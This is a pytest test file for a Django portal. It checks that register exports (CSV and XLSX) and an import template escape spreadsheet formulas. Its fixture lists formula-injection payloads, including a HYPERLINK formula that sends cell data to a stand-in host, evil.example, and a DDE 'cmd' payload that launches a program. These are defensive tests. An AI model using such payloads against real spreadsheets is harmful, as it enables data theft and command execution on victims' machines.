"""Exports never hand a spreadsheet a formula: the register (CSV and XLSX) and the import
template go through ``roadmap_portal.exports``."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from suppliers.importing import import_template
from suppliers.services import offer_transition
from tests.certification.conftest import make_offer

pytestmark = pytest.mark.django_db

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"Open")': '\'=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1,1)": "'@SUM(1,1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.mark.parametrize(("text", "safe"), list(HOSTILE.items()))
def test_formula_prefixes_are_neutralised(text, safe):
    from roadmap_portal.exports import csv_line, neutralise

    assert neutralise(text) == safe
    assert next(csv.reader(io.StringIO(csv_line([text])))) == [safe]


def test_plain_values_stay_as_they_are():
    from roadmap_portal.exports import neutralise

    assert neutralise("Lamp = bright") == "Lamp = bright"
    assert neutralise(-5) == -5 and neutralise(None) is None


def test_register_exports_write_hostile_names_as_text(world, client):
    names = list(HOSTILE)[:4]
    offers = [
        make_offer(world, roadmap=world.irao_roadmap, status="registered", name=name)
        for name in names
    ]
    offer_transition(
        offer_id=offers[0].pk, user=world.irao_reviewer, action="exclude", comment="@cmd"
    )
    client.force_login(world.staff)
    url = reverse("certification:register")

    response = client.get(url, {"corporation": world.irao.pk, "export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert sorted(row[2] for row in rows) == sorted(HOSTILE[name] for name in names)
    assert "'@cmd" in [row[10] for row in rows]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    response = client.get(url, {"corporation": world.irao.pk, "export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    products = sorted(row[2].value for row in sheet.iter_rows(min_row=2))
    assert products == sorted(HOSTILE[name] for name in names)
    assert all(cell.data_type != "f" for cell in cells)
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_the_import_template_has_no_formula_cells():
    content, _type, _name = import_template(file_format="xlsx")
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
